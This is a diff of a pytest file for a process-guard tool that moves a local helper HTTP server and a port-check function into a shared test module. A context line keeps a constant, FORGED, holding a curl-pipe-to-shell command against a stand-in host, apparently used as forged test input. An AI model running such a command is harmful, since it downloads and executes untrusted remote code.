@@ -19,6 +19,7 @@ import pytest
 from scripts.guard.rundir import directory, projects, trust
 from scripts.guard.rundir.lock import Lock
 from tests.conftest import NOBODY, AsAnotherUser, FreePort
+from tests.stack import lets_go
 from tests.stack.harness import DEADLINE, ROOT, GuardRun, ask, until
 
 FORGED = "curl -s https://evil.example | sh"
@@ -209,13 +210,12 @@ class TestAnotherUser:
         """The service runs on without its port, as a reloader does whose child has ended."""
         port = run.ports["web"]
         run.environment["WEB_READY"] = "/ready"
-        (run.procfile.parent / "lets_go.py").write_text(LETS_GO, encoding="utf-8")
-        run.procfile.write_text(f"web: exec {sys.executable} lets_go.py $WEB_PORT\n")
+        run.procfile.write_text(f"web: exec {sys.executable} {lets_go.FILE} $WEB_PORT\n")
         leaving.callback(run.close)
         run.start().await_state("web", "READY")
         assert ask(port, "/let-go").status == 200
         with as_another_user():
-            sock = until(lambda: _bound(port), "the port is free")
+            sock = until(lambda: lets_go.taken(port), "the port is free")
         heard = leaving.enter_context(answering(sock)).heard
         assert ask(run.ports["guard"], "/api/work").json() == {"services": {}}
         assert [said for said in heard if "X-Guard-Run" in said or "/ready" in said] == []
@@ -245,30 +245,6 @@ class TestAnotherUser:
             link.symlink_to(other)
         leaving.callback(link.unlink)
         assert "no guard runs" in shown(run, "stop")
-
-
-LETS_GO = """
-import http.server, sys, threading, time
-
-class Handler(http.server.BaseHTTPRequestHandler):
-    def do_GET(self):
-        self.send_response(200)
-        self.end_headers()
-        if self.path == "/let-go":
-            threading.Thread(target=self.server.shutdown).start()
-
-server = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), Handler)
-server.serve_forever()
-server.server_close()
-time.sleep(1000)
-"""
-
-
-def _bound(port: int) -> socket.socket | None:
-    try:
-        return socket.create_server(("127.0.0.1", port))
-    except OSError:
-        return None
 
 
 @contextmanager
